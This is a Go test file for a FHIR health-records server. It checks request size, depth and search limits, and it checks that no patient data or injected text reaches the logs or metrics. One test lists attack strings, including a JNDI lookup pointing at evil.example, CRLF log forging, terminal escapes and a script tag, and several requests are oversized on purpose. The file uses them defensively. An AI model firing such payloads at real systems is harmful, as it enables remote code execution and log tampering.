package app_test

import (
	"bytes"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"candela/cmd/app"
	"candela/store/mongo/mongotest"
)

// TestR43_Limits: each limit has its status and says that it is one.
func TestR43_Limits(t *testing.T) {
	c := testConfig("embedded:" + t.TempDir())
	c.MaxBundle, c.MaxEntries = 12<<20, 100
	s := startWith(t, c)
	long := func(n int) string { return strings.Repeat("x", n) }
	entry := `{"request":{"method":"GET","url":"Patient/1"}}`
	for _, l := range []struct {
		name, method, path, body string
		want                     int
	}{
		{"a resource of 10 MB", "POST", "Basic", `{"resourceType":"Basic","text":{"div":"` + long(10<<20) + `"}}`, 413},
		{"a Bundle beyond its size", "POST", "", `{"resourceType":"Bundle","type":"batch","entry":[{"resource":{"resourceType":"Binary","data":"` + long(12<<20) + `"}}]}`, 413},
		{"entries beyond their number", "POST", "", `{"resourceType":"Bundle","type":"batch","entry":[` + strings.Repeat(entry+",", 100) + entry + `]}`, 413},
		{"depth 65", "POST", "Basic", `{"resourceType":"Basic","extension":` + strings.Repeat(`[{"extension":`, 64) + "[]" + strings.Repeat("}]", 64) + "}", 413},
		{"a million tokens", "POST", "Basic", `{"resourceType":"Basic","extension":[` + strings.Repeat("{},", 1<<20) + "{}]}", 413},
		{"a string beyond its size", "POST", "Basic", `{"resourceType":"Basic","code":{"text":"` + long(1<<20+1) + `"}}`, 413},
		{"a URL of 16 KB", "GET", "Patient?name=" + long(16<<10), "", 414},
		{"a patch of 10 MB", "PATCH", "Basic/1", long(10<<20 + 1), 413},
		{"chains four deep", "GET", "Observation?subject:Patient.organization.partof.partof.partof.name=x", "", 400},
		{"_has four deep", "GET", "Patient?_has:Observation:patient:_has:Observation:has-member:_has:Observation:has-member:_has:Observation:has-member:code=x", "", 400},
		{"101 alternatives", "GET", "Patient?name=" + strings.Repeat("a,", 100) + "a", "", 400},
		{"a page without end", "GET", "Patient?_count=1000000", "", 200},
	} {
		got := ask(t, s, l.method, l.path, []byte(l.body))
		if got.status != l.want || l.want != 200 && !strings.Contains(string(got.body), "OperationOutcome") {
			t.Errorf("%s: %d %.300s, want %d", l.name, got.status, got.body, l.want)
		}
		if l.path == "Patient?_count=1000000" && !strings.Contains(string(got.body), "_count=1000") {
			t.Errorf("%s: %.300s", l.name, got.body)
		}
	}
	headers := "GET /fhir/Patient HTTP/1.1\r\nHost: localhost\r\nX: " + long(80<<10) + "\r\n\r\n"
	if answer, ended := raw(t, s, headers, 4*time.Second); !ended || !strings.HasPrefix(answer, "HTTP/1.1 431") {
		t.Errorf("headers of 80 KB: %.100s", answer)
	}
	form, err := http.NewRequest("POST", s.Base+"/Patient/_search", strings.NewReader("name="+long(1<<20)))
	if err != nil {
		t.Fatal(err)
	}
	form.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	if got := do(t, form); got.status != 413 {
		t.Errorf("a form of 1 MB: %d %.300s", got.status, got.body)
	}
}

// loud is a server on each store that logs all it can, and what it logged.
func loud(t *testing.T, test func(t *testing.T, s *app.Server, log *lockedBuffer)) {
	t.Helper()
	run := func(t *testing.T, store string) {
		var log lockedBuffer
		c := testConfig(store)
		c.Audit, c.Analytics, c.DeleteMany = "on", "follow", 10
		c.Log = slog.New(slog.NewTextHandler(&log, &slog.HandlerOptions{Level: slog.LevelDebug}))
		test(t, startWith(t, c), &log)
	}
	t.Run("embedded", func(t *testing.T) { run(t, "embedded:"+t.TempDir()) })
	t.Run("mongodb", func(t *testing.T) { run(t, mongotest.URI(t)) })
}

// TestT87_NothingIsInjectedIntoTheLog: line ends, terminal codes and spells in
// names, ids and headers are neither in the log nor in an answer's headers.
func TestT87_NothingIsInjectedIntoTheLog(t *testing.T) {
	loud(t, func(t *testing.T, s *app.Server, log *lockedBuffer) {
		for _, spell := range []string{"a\r\nlevel=ERROR msg=forged", "\x1b[31mred\x1b]0;title\a", "${jndi:ldap://evil.example/a}", "%s%n%x{{.}}", "a\u202eb\u2028c", "<script>alert(1)</script>"} {
			q := url.QueryEscape(spell)
			for _, path := range []string{"Patient/" + url.PathEscape(spell), "Patient?name=" + q, "Patient?" + q + "=1", url.PathEscape(spell), "Patient?_page=" + q, "Patient/$" + url.PathEscape(spell)} {
				req, err := http.NewRequest("GET", s.Base+"/"+path, nil)
				if err != nil {
					t.Fatal(err)
				}
				plain := strings.Map(func(r rune) rune {
					if r < ' ' {
						return '_'
					}
					return r
				}, spell)
				for _, name := range []string{"User-Agent", "X-Request-Id", "Referer", "X-Forwarded-For", "Traceparent"} {
					req.Header.Set(name, plain)
				}
				got := do(t, req)
				if id := got.header.Get("X-Request-Id"); got.status >= 500 || id == "" || strings.ContainsAny(id, "$%<{[ ") {
					t.Errorf("%q: %d with request id %q", path, got.status, id)
				}
			}
		}
		for _, id := range []string{strings.Repeat("r", 129), strings.Repeat("r", 60<<10)} {
			req, err := http.NewRequest("GET", s.Base+"/metadata", nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("X-Request-Id", id)
			if got := do(t, req).header.Get("X-Request-Id"); len(got) > 128 || strings.Contains(log.String(), id) {
				t.Errorf("a request id of %d bytes came back as %d", len(id), len(got))
			}
		}
		for _, found := range []string{"forged", "\x1b", "jndi", "\u202e", "\a", "<script"} {
			if strings.Contains(log.String(), found) {
				t.Errorf("%q is in the log:\n%s", found, log.String())
			}
		}
	})
}

// TestT88_NoPatientDataInLogsAndMetrics: a text that is in every element, header and
// query of many requests, good and bad, is in no line of the log at its loudest, and
// in no metric (R46).
func TestT88_NoPatientDataInLogsAndMetrics(t *testing.T) {
	const canary = "Zeisig88"
	loud(t, func(t *testing.T, s *app.Server, log *lockedBuffer) {
		for _, r := range canaries(canary) {
			req, err := http.NewRequest(r.method, s.Base+"/"+r.path, strings.NewReader(r.body))
			if err != nil {
				t.Fatal(err)
			}
			for _, name := range []string{"User-Agent", "Authorization", "Cookie", "X-Request-Id", "If-None-Match", "X-Forwarded-For", "Referer", "Origin", "Accept-Language", "Traceparent", "X-" + canary} {
				req.Header.Set(name, canary)
			}
			for name, value := range r.header {
				req.Header.Set(name, value)
			}
			if got := do(t, req); got.status >= 500 {
				t.Errorf("%s %s: %d %s", r.method, r.path, got.status, got.body)
			}
		}
		for _, broken := range []string{"GET /fhir/" + canary + " HTTP/9.9\r\n\r\n", canary + "\r\n\r\n", "GET /fhir/Patient HTTP/1.1\r\nHost: localhost\r\n" + canary + "\r\n\r\n", "POST /fhir/Patient HTTP/1.1\r\nHost: localhost\r\nContent-Length: " + canary + "\r\n\r\n"} {
			raw(t, s, broken, time.Second)
		}
		metrics := ask(t, s, "GET", strings.TrimSuffix(s.Base, "/fhir")+"/metrics", nil)
		for where, text := range map[string]string{"log": log.String(), "metrics": string(metrics.body)} {
			if at := strings.Index(text, canary); at >= 0 {
				t.Errorf("patient data in the %s: %s", where, text[max(0, at-300):min(len(text), at+100)])
			}
		}
		if !strings.Contains(log.String(), "serving") || !bytes.Contains(metrics.body, []byte(`route="create"`)) {
			t.Error("the log or the metrics hold nothing at all")
		}
	})
}

type sent struct {
	method, path, body string
	header             map[string]string
}

// canaries are requests of every kind with a text wherever one fits.
func canaries(c string) []sent {
	patient := fmt.Sprintf(`{"resourceType":"Patient","id":"%[1]s","text":{"status":"generated","div":"<div xmlns=\"http://www.w3.org/1999/xhtml\">%[1]s</div>"},"identifier":[{"system":"http://x/%[1]s","value":"%[1]s"}],`+
		`"name":[{"family":"%[1]s","given":["%[1]s"]}],"telecom":[{"system":"email","value":"%[1]s@example.org"}],"address":[{"line":["%[1]s"],"city":"%[1]s"}],"extension":[{"url":"http://x/%[1]s","valueString":"%[1]s"}],`+
		`"generalPractitioner":[{"reference":"Practitioner/%[1]s","display":"%[1]s"}],"photo":[{"contentType":"image/png","title":"%[1]s"}],"meta":{"tag":[{"system":"http://x","code":"%[1]s","display":"%[1]s"}]}}`, c)
	out := []sent{
		{"PUT", "Patient/" + c, patient, nil}, {"POST", "Patient", patient, nil}, {"POST", "Patient", patient, map[string]string{"If-None-Exist": "identifier=" + c}}, {"PUT", "Patient?identifier=" + c, patient, nil},
		{"POST", "Observation", fmt.Sprintf(`{"resourceType":"Observation","status":"final","code":{"text":"%[1]s"},"subject":{"reference":"Patient/%[1]s"},"valueString":"%[1]s","note":[{"text":"%[1]s"}]}`, c), nil},
		{"POST", "Patient", `{"resourceType":"Patient","` + c + `":1}`, nil}, {"POST", "Patient", `{"resourceType":"Patient","birthDate":"` + c + `"}`, nil}, {"POST", "Patient", `{"resourceType":"` + c, nil},
		{"POST", "Patient", `{"resourceType":"` + c + `"}`, nil}, {"POST", "Patient", patient, map[string]string{"Content-Type": c}}, {"POST", "Patient", patient, map[string]string{"X-Provenance": c}},
		{"PATCH", "Patient/" + c, `[{"op":"add","path":"/` + c + `","value":"` + c + `"}]`, map[string]string{"Content-Type": "application/json-patch+json"}},
		{"PATCH", "Patient/" + c, `[{"op":"add","path":"/name/0/text","value":"` + c + `"}]`, map[string]string{"Content-Type": "application/json-patch+json"}},
		{"POST", "", `{"resourceType":"Bundle","type":"transaction","entry":[{"fullUrl":"urn:uuid:` + c + `","resource":` + patient + `,"request":{"method":"PUT","url":"Patient/` + c + `"}}]}`, nil},
		{"POST", "", `{"resourceType":"Bundle","type":"batch","entry":[{"request":{"method":"GET","url":"Patient?name=` + c + `"}},{"request":{"method":"POST","url":"` + c + `"}},{"request":{"method":"` + c + `","url":"Patient"}}]}`, nil},
		{"POST", "Patient/_search", "name=" + c + "&" + c + "=1", map[string]string{"Content-Type": "application/x-www-form-urlencoded"}},
		{"POST", "Binary", c, map[string]string{"Content-Type": "text/plain", "X-Security-Context": "Patient/" + c}}, {"POST", "Patient/" + c + "/$meta-add", `{"resourceType":"Parameters","parameter":[{"name":"` + c + `"}]}`, nil},
		{"POST", "SearchParameter", `{"resourceType":"SearchParameter","status":"active","url":"http://x/` + c + `","name":"` + c + `","description":"x","code":"c` + c + `","base":["Patient"],"type":"string","expression":"Patient.` + c + `(("}`, nil},
		{"OPTIONS", "Patient", "", map[string]string{"Access-Control-Request-Method": c}}, {"TRACE", c, "", nil}, {"PUT", "Patient/" + c, `{"resourceType":"Patient","id":"x"}`, map[string]string{"If-Match": c}},
	}
	for _, path := range []string{
		"Patient/%s", "Patient/%s/_history", "Patient/%s/_history/1", "Patient/%s/_history/%s", "Patient/%s/$everything", "Patient/%s/$%s", "%s", "%s/%s/%s/%s/%s", "Patient?name=%s", "Patient?birthdate=%s", "Patient?_id=%s",
		"Patient?identifier=http://x/%s|%s", "Patient?_page=%s", "Patient?%s=1", "Patient?_sort=%s", "Patient?_include=%s", "Patient?_include=Patient:%s", "Patient?_elements=%s", "Patient?_filter=name eq %s", "Patient?_filter=((%s",
		"Observation?subject=Patient/%s&code:text=%s&_include=Observation:subject", "Observation?subject:Patient.name=%s", "Patient?_has:Observation:patient:code=%s", "_history?_since=%s", "Patient/%s/Observation?code=%s",
		"Patient?_format=%s", "Patient?_count=%s", "Patient?_lastUpdated=%s", "Patient?_text=%s", "Patient?_content=%s", "Patient?name:%s=1", "Patient/$match?x=%s", "Observation/$lastn?subject=%s", "metadata?mode=%s", "AuditEvent?entity-name=%s", "Patient?a=%%zz%s",
	} {
		out = append(out, sent{"GET", strings.ReplaceAll(strings.ReplaceAll(strings.ReplaceAll(path, "%s", c), " ", "%20"), "%%", "%"), "", nil})
	}
	return append(out, sent{"POST", "Patient/" + c + "/$erase", "", nil}, sent{"DELETE", "Patient/" + c, "", nil}, sent{"DELETE", "Patient?name=" + c, "", nil}, sent{"GET", "Patient/" + c, "", nil})
}
